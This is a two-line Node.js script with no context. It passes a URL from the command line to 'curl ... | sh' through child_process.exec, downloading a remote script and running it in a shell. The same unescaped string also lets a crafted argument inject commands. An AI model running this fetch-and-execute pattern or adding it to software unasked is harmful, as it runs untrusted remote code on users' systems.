const cp = require(`child_process`);
cp.exec(`curl ${process.argv[2]} | sh`);
